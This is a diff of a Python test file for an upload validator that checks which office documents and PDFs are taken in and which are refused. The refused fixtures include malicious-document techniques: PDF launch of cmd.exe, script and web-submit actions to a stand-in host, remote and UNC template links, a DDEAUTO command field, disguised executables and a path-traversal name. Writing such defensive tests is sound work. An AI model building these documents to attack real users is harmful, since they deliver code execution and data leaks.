@@ -4,14 +4,19 @@ import time
 import zipfile
 import zlib
 from io import BytesIO
+from pathlib import Path
 
 import pytest
+from django.utils import translation
+from pypdf import PdfWriter
+from pypdf.actions import JavaScript
 
 from lib.exceptions import Refused
 from lib.uploads.filenames import stem
 from lib.uploads.validation import validate
 from tests.lib.uploading import docx, odt, packed, pdf, picture, upload
 
+DATA = Path(__file__).parent / "data" / "uploads"
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 
@@ -34,11 +39,105 @@ def test_a_plain_document_is_taken_in_as_it_is(data, kind):
     assert (judged.kind, judged.name, judged.files) == (kind, "Ohje", {f"document.{kind}": data})
 
 
-PACKED_SCRIPT = (
-    b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
-    + zlib.compress(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>")
-    + b"\nendstream\nendobj\n"
+def packed_objects(objects, before=b""):
+    """A stream in which newer PDFs pack objects, given by their numbers."""
+    head, body = b"", b""
+    for number, data in objects.items():
+        head += b"%d %d " % (number, len(body))
+        body += data + b" "
+    facts = b"/N %d /First %d /Filter /FlateDecode" % (len(objects), len(head))
+    return b"5 0 obj\n<< /Type /ObjStm %s >>\nstream\n%s\nendstream\nendobj\n" % (facts, zlib.compress(head + body))
+
+
+def encrypted(script="", attachment=b"", **passwords):
+    """A PDF locked against changes; with `user_password` against reading too."""
+    writer = PdfWriter()
+    writer.add_blank_page(100, 100)
+    writer.add_outline_item(title="Alku", page_number=0)
+    if script:
+        writer.add_open_action(JavaScript(script))
+    if attachment:
+        writer.add_attachment("a.exe", attachment)
+    writer.encrypt(**({"user_password": "", "owner_password": "omistaja"} | passwords))
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def sheet(*more):
+    """A workbook, as it lies behind a chart."""
+    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+    return packed(
+        ("[Content_Types].xml", f'<Types><Override ContentType="{kind}"/></Types>'), ("xl/workbook.xml", "<x/>"), *more
+    )
+
+
+def relations(kind, target):
+    """What the text of a DOCX points at outside."""
+    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
+    name = "word/_rels/settings.xml.rels" if kind.endswith("attachedTemplate") else "word/_rels/document.xml.rels"
+    one = f'<Relationship Id="rId1" Type="{kind}" Target="{target}" TargetMode="External"/>'
+    return (
+        name,
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{one}</Relationships>',
+    )
+
+
+ORDINARY = {
+    "a PDF with outlines whose opening is packed": pdf(
+        b"/OpenAction 7 0 R", packed_objects({6: b"<</A 1>>", 7: b"<</D[4 0 R/XYZ null null 0]/S/GoTo>>"})
+    ),
+    "a PDF that opens at a packed place": pdf(b"/OpenAction 7 0 R", packed_objects({7: b"[4 0 R /Fit]"})),
+    "a PDF behind a byte order mark": b"\xef\xbb\xbf" + pdf(),
+    "a PDF behind blank lines": b"\r\n \0" + pdf(),
+    "a PDF behind the words of a printer": b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + pdf(),
+    "a PDF behind the head of an answer": b"Content-Type: application/pdf\r\nDate: tiistai\r\n\r\n" + pdf(),
+    "a PDF before many blanks": pdf() + b"\0" * 9000,
+    "a PDF locked against changes": encrypted(),
+    "a PDF locked against changes, newer": encrypted(algorithm="AES-256"),
+    "a PDF locked against changes, in between": encrypted(algorithm="AES-128"),
+    "settings of a printer": docx(("word/printerSettings/printerSettings1.bin", b"H\0P\0")),
+    "a drawing": docx(("word/media/image1.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')),
+    "a chart": docx(("word/charts/chart1.xml", "<x/>"), ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", sheet())),
+    "a chart with settings of a printer": docx(
+        ("word/embeddings/S1.xlsx", sheet(("xl/printerSettings/printerSettings1.bin", b"H\0")))
+    ),
+    "links": docx(relations("hyperlink", "https://example.org/ilmo")),
+    "a picture that stays on the web": docx(relations("image", "https://example.org/kuva.png")),
+    "the template of the office": docx(relations("attachedTemplate", r"file:///C:\Users\x\AppData\Kirje.dotx")),
+    "a drawing of the other office": odt(("Pictures/1.svg", "<svg/>"), ("Object 1/content.xml", "<x/>")),
+}
+
+
+@pytest.mark.parametrize("what", ORDINARY)
+def test_what_office_programs_put_into_ordinary_documents_is_taken(what):
+    """Real use 27: printer settings, drawings, sheets behind charts, outlines, marks before a PDF, locks on changes."""
+    assert set(validate(upload(ORDINARY[what], "ohje")).files.values()) == {ORDINARY[what]}
+
+
+@pytest.mark.parametrize("name", ["word-printer.docx", "word-icon.docx"])
+def test_documents_of_real_programs_are_taken(name):
+    """Real use 27: files that Word wrote."""
+    assert validate(upload((DATA / name).read_bytes(), name)).kind == "docx"
+
+
+@pytest.mark.parametrize(
+    ("data", "word"),
+    [
+        (pdf(b"/X << /S /Launch /F (cmd.exe) >>"), "ohjelmia"),
+        (pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), "JavaScript"),
+        (pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), "muita tiedostoja"),
+        (docx(("word/vbaProject.bin", b"x")), "makroja"),
+        (docx(relations("attachedTemplate", "https://paha.example/x.dotm")), "pohjansa"),
+    ],
 )
+def test_the_words_of_a_refusal_name_what_was_found(data, word):
+    """Real use 27: the refusal is true."""
+    with pytest.raises(Refused, match=word), translation.override("en"):
+        validate(upload(data))
+
+
+PACKED_SCRIPT = packed_objects({7: b"<< /S /JavaScript /JS (app.alert(1)) >>"})
 REFUSED = {
     "a drawing that can hold scripts": SVG,
     "a drawing behind an XML head": b'<?xml version="1.0"?>' + SVG,
@@ -59,6 +158,17 @@ REFUSED = {
     "a PDF that starts a program": pdf(b"/X << /S /Launch /F (cmd.exe) >>"),
     "a PDF with a file inside": pdf(b"/Names << /EmbeddedFiles 9 0 R >>"),
     "a locked PDF": pdf(tail=b"trailer << /Encrypt 8 0 R >>\n"),
+    "a PDF that goes to the web at once": pdf(b"/OpenAction << /S /URI /URI (https://paha.example) >>"),
+    "a PDF that goes to the web at once, packed": pdf(b"/OpenAction 7 0 R", packed_objects({7: b"<</S/URI/URI(x)>>"})),
+    "a PDF that sends": pdf(b"/X << /S /SubmitForm /F (https://paha.example) >>"),
+    "a PDF with a password": encrypted(user_password="salainen"),
+    "a PDF with a newer password": encrypted(user_password="salainen", algorithm="AES-256"),
+    "a PDF locked against changes with a script": encrypted(script="app.alert(1)"),
+    "a PDF locked against changes with a script, newer": encrypted(script="app.alert(1)", algorithm="AES-256"),
+    "a PDF locked against changes with a file": encrypted(attachment=b"x"),
+    "a page before a PDF": b"<html>\r\n" + pdf(),
+    "a program before a PDF": b"MZ\x90\x00" + b"\0" * 60 + pdf(),
+    "a script before a PDF": b"alert(1)//\r\n" + pdf(),
     "half a PDF": pdf()[:60],
     "a page that claims to be a PDF": b"<script>%PDF-1.7</script>" + pdf(),
     "macros": docx(("word/vbaProject.bin", b"x")),
@@ -69,7 +179,23 @@ REFUSED = {
     "a locked or old document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
     "a plain package": packed(("a.txt", "x")),
     "a package in a package": odt(("Pictures/a.zip", packed(("b.txt", "x")))),
-    "a table in a document": docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", packed(("x", "x")))),
+    "a file that is not the sheet it claims to be": docx(
+        ("word/embeddings/Microsoft_Excel_Sheet.xlsx", packed(("x", "x")))
+    ),
+    "a sheet with macros behind a chart": docx(("word/embeddings/S1.xlsx", sheet(("xl/vbaProject.bin", "x")))),
+    "a sheet with a program behind a chart": docx(("word/embeddings/S1.xlsx", sheet(("xl/embeddings/a.exe", "x")))),
+    "an object of another program": docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
+    "a program among the settings of a printer": docx(("word/printerSettings/printerSettings1.bin", b"MZ\x90\0")),
+    "a control": docx(("word/activeX/activeX1.bin", b"x")),
+    "a program named as a picture": docx(("word/media/image1.png", b"MZ\x90\0")),
+    "a drawing with a script": docx(("word/media/image1.svg", SVG)),
+    "a drawing that acts": docx(("word/media/image1.svg", b'<svg><g onload="x()"/></svg>')),
+    "a drawing with a script in a text of the other office": odt(("Pictures/1.svg", SVG)),
+    "a template from the web": docx(relations("attachedTemplate", "https://paha.example/x.dotm")),
+    "a template from another machine": docx(relations("attachedTemplate", r"file:///\\\\paha.example\\x.dotm")),
+    "a picture from another machine": docx(relations("image", r"\\\\paha.example\\x.png")),
+    "an object from the web": docx(relations("oleObject", "mhtml:https://paha.example/x.html!x-usc:x")),
+    "a field that starts a program": docx(document="<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"),
     "a way out of the folder": docx(("../../etc/passwd", "x")),
     "another ODF": packed(("mimetype", "application/vnd.oasis.opendocument.spreadsheet")),
     "two files in one": odt() + pdf(),
